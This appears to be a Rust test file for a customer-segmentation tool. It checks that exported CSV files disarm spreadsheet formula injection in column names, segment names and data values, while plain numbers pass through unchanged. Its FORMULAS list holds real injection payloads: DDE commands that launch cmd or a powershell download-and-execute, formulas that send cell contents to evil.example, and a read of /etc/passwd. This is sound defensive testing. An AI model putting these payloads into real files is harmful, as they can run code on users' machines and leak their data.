//! Cells that spreadsheet programs would run: disarmed in every CSV that is made here, while numbers stay as they are.

use customer_segmentation::protocol::{
    Event, Export, ExportOptions, FileMeta, LabelColumn, Output, TableFormat,
};
use customer_segmentation::session::Session;
use customer_segmentation::view::View;

use crate::common::outputs;
use crate::containers::table;

/// What has been used or recommended against spreadsheet programs, and what evades a look at the first character alone.
const FORMULAS: [&str; 60] = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    "=cmd|'/C powershell IEX(wget 0.0.0.0/x)'!A0",
    "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"open\")",
    "=WEBSERVICE(\"http://evil.example/\"&A1)",
    "=IMPORTXML(CONCAT(\"http://evil.example/?v=\",A1),\"//a\")",
    "=IMPORTDATA(\"http://evil.example\")",
    "=IMPORTFEED(\"http://evil.example\")",
    "=IMPORTHTML(\"http://evil.example\",\"table\",1)",
    "=IMPORTRANGE(\"abc\",\"A1\")",
    "=IMAGE(\"http://evil.example/a.png\")",
    "=DDE(\"cmd\";\"/C calc\";\"x\")",
    "=MSEXCEL|'\\..\\..\\..\\Windows\\System32\\cmd.exe /c calc.exe'!''",
    "=rundll32|'URL.dll,OpenURL calc.exe'!A",
    "='file:///etc/passwd'#$passwd.A1",
    "=A1+B1",
    "=SUM(A1:A9)",
    "=\"a\"&\"b\"",
    "=(1)",
    "==1",
    "=-1",
    "=+1",
    "=@SUM(1)",
    "=",
    "+1+1",
    "+cmd|' /C calc'!A0",
    "+A1",
    "+SUM(A1)",
    "+HYPERLINK(\"http://evil.example\")",
    "+\"a\"",
    "+",
    "-1+1",
    "-2+3+cmd|' /C calc'!A0",
    "-A1",
    "-SUM(A1)",
    "--1",
    "-(1)",
    "-A1:A9",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@A1",
    "@SUM(A1)",
    "@",
    "\t=1+1",
    "\tx=1",
    "\r=1+1",
    " =1+1",
    "\u{a0}=1+1",
    "\u{feff}=1+1",
    "\u{200b}=1+1",
    "\n=1+1",
    "＝1+1",
    "＝cmd|' /C calc'!A0",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "=1,2",
    "=1;2",
    "=\"a,b\"&\";c\"",
    "-1;=2",
    "=1\"\"+\"",
];

/// Begin as those do, and compute nothing.
const NUMBERS: [&str; 9] =
    ["-", "-5", "+3.2", "-1.234,56", "-1,234.56", "-1 234,5", "-2e-7", "-12 %", "+49 30 1234567"];

/// Whether a spreadsheet program could take `cell` for a formula.
fn runs(cell: &str) -> bool {
    let seen = cell.trim_start_matches(|c: char| c.is_whitespace() || "\u{feff}\u{200b}".contains(c));
    let number = NUMBERS.contains(&cell) || cell.replace(',', ".").parse::<f64>().is_ok();
    (cell.starts_with(['\t', '\r']) || seen.starts_with(['=', '+', '-', '@', '＝', '＋', '－', '＠']))
        && !number
}

/// A table as RFC 4180 reads it.
fn cells(text: &str, delimiter: char) -> Vec<Vec<String>> {
    let mut rows = vec![vec![String::new()]];
    let mut quoted = false;
    let mut letters = text.trim_start_matches('\u{feff}').chars().peekable();
    while let Some(letter) = letters.next() {
        let cell = rows.last_mut().and_then(|row| row.last_mut()).expect("never empty");
        match letter {
            '"' if quoted && letters.peek() == Some(&'"') => cell.extend(letters.next()),
            '"' if quoted || cell.is_empty() => quoted = !quoted,
            '\r' if !quoted && letters.peek() == Some(&'\n') => {}
            '\n' if !quoted => rows.push(vec![String::new()]),
            _ if letter == delimiter && !quoted => rows.last_mut().expect("never empty").push(String::new()),
            _ => cell.push(letter),
        }
    }
    rows.retain(|row| row.len() > 1 || !row[0].is_empty());
    rows
}

/// As somebody writes a cell into a file with `delimiter`.
fn written(cell: &str, delimiter: char) -> String {
    if cell.contains([delimiter, '"', '\r', '\n']) || cell.trim() != cell {
        format!("\"{}\"", cell.replace('"', "\"\""))
    } else {
        cell.to_owned()
    }
}

/// Opens `bytes` and gives the first result, with its checks stopped.
fn opened(event: Event, bytes: &[u8]) -> (Session, View) {
    let mut session = Session::default();
    let told = outputs(&mut session, event, bytes);
    let view = told.into_iter().rev().find_map(|(output, _)| match output {
        Output::Segmented { view } => Some(*view),
        Output::Failed { error } => panic!("{error:?}"),
        _ => None,
    });
    (session, view.expect("a result"))
}

fn taken(session: &mut Session, bytes: &[u8], export: Export, options: ExportOptions) -> String {
    let told = outputs(session, Event::Export { export, options }, bytes);
    let parts = told.into_iter().filter(|(output, _)| matches!(output, Output::DownloadPart { .. }));
    String::from_utf8(parts.flat_map(|(_, payload)| payload).collect()).expect("UTF-8")
}

fn meta(name: &str, bytes: &[u8]) -> FileMeta {
    FileMeta { name: name.to_owned(), size: bytes.len() as u64 }
}

/// A row of two numbers that tell three kinds of customers apart.
fn numbers(row: usize) -> (usize, usize) {
    let (spent, orders) = [(900, 12), (240, 30), (60, 2)][row % 3];
    let jitter = (row * 7919) % 23;
    (spent + jitter, orders + jitter % 3)
}

#[test]
fn formulas_as_names_and_levels_are_disarmed_in_the_table_of_averages() {
    let named: Vec<String> = FORMULAS.iter().map(|name| written(name, ',')).collect();
    let mut text = format!("spent,orders,{}\n", named.join(","));
    for row in 0..240 {
        let (spent, orders) = numbers(row);
        // Every one of them is a level of two columns, in a third of the rows of one and in the others of the next.
        let levels =
            (0..named.len()).map(|at| named[(at + usize::from(row % 3 == 0)) % named.len()].as_str());
        text += &format!("{spent},{orders},{}\n", levels.collect::<Vec<_>>().join(","));
    }
    let (mut session, view) =
        opened(Event::Open { file: meta("shop.csv", text.as_bytes()), recipe: None }, text.as_bytes());
    for (format, delimiter) in [(TableFormat::Comma, ','), (TableFormat::Semicolon, ';')] {
        let options = ExportOptions { format, ..ExportOptions::default() };
        let table = taken(&mut session, text.as_bytes(), Export::Profile, options);
        let rows = cells(&table, delimiter);
        let running: Vec<&String> = rows.iter().flatten().filter(|cell| runs(cell)).collect();
        assert!(running.is_empty(), "{delimiter}: {running:?}");
        assert!(
            rows.iter().all(|row| row.len() == 3 + view.segments.len()),
            "{delimiter}: no cell falls apart"
        );
        let bare = |cell: &str| cell.trim_start_matches('\'').trim().to_owned();
        for formula in FORMULAS {
            for column in 0..2 {
                let there = rows.iter().any(|row| bare(&row[column]) == bare(formula));
                assert!(there, "{formula:?} stands in column {column} of {table}");
            }
        }
    }
}

#[test]
fn formulas_as_names_of_segments_are_disarmed_and_numbers_are_not() {
    let mut text = "spent,orders\n".to_owned();
    for row in 0..90 {
        let (spent, orders) = numbers(row);
        text += &format!("{spent},{orders}\n");
    }
    let bytes = text.as_bytes();
    let (mut session, _) = opened(Event::Open { file: meta("shop.csv", bytes), recipe: None }, bytes);
    for name in FORMULAS.iter().chain(&NUMBERS) {
        outputs(&mut session, Event::Rename { segment: 1, name: (*name).to_owned() }, bytes);
        let options = ExportOptions { columns: vec![LabelColumn::Name], ..ExportOptions::default() };
        let rows = cells(&taken(&mut session, bytes, Export::LabelledFile, options), ',');
        assert!(rows.iter().all(|row| row.len() == 4), "{name:?}");
        let row = rows.iter().find(|row| row[2] == "1").expect("the first segment has customers");
        let cell = row[3].split(" (").next().expect("a first part").trim_end();
        if NUMBERS.contains(name) {
            assert_eq!(cell, *name);
        } else {
            assert!(!runs(&row[3]), "{name:?} gives {:?}", row[3]);
        }
    }
}

#[test]
fn words_of_a_table_with_types_do_not_become_formulas_in_the_labelled_file() {
    let words: Vec<&str> = FORMULAS.iter().chain(&NUMBERS).copied().collect();
    let objects: Vec<serde_json::Value> = (0..words.len() * 3)
        .map(|row| {
            let (spent, orders) = numbers(row);
            serde_json::json!({ "=id": row, "spent": spent, "orders": orders, "word": words[row % words.len()] })
        })
        .collect();
    let json = serde_json::to_vec(&objects).expect("JSON");
    let (text, origin) = table("shop.json", &json, None);
    let text = text.as_bytes();
    let (mut session, _) =
        opened(Event::OpenMade { file: meta("shop.json", text), origin, recipe: None }, text);
    let rows = cells(&taken(&mut session, text, Export::LabelledFile, ExportOptions::default()), ',');
    assert_eq!(rows[0], ["'=id", "orders", "spent", "word", "segment"]);
    assert_eq!(rows.len(), objects.len() + 1);
    for (row, cells) in rows[1..].iter().enumerate() {
        let word = words[row % words.len()];
        assert_eq!(cells.len(), 5, "{word:?}");
        if NUMBERS.contains(&word) {
            assert_eq!(cells[3], word);
        } else {
            assert_eq!(cells[3].trim_start_matches('\'').trim(), word.trim());
            assert!(!runs(&cells[3]), "{word:?} gives {:?}", cells[3]);
        }
    }
}

#[test]
fn a_text_that_somebody_has_is_given_back_as_it_is() {
    let mut text = "spent,orders,note\n".to_owned();
    for row in 0..90 {
        let (spent, orders) = numbers(row);
        text += &format!("{spent},{orders},{}\n", written(FORMULAS[row % 42], ','));
    }
    let bytes = text.as_bytes();
    let (mut session, _) = opened(Event::Open { file: meta("shop.csv", bytes), recipe: None }, bytes);
    let labelled = taken(&mut session, bytes, Export::LabelledFile, ExportOptions::default());
    for (line, original) in labelled.lines().zip(text.lines()) {
        assert!(line.starts_with(original), "{line} begins with {original}");
    }
}
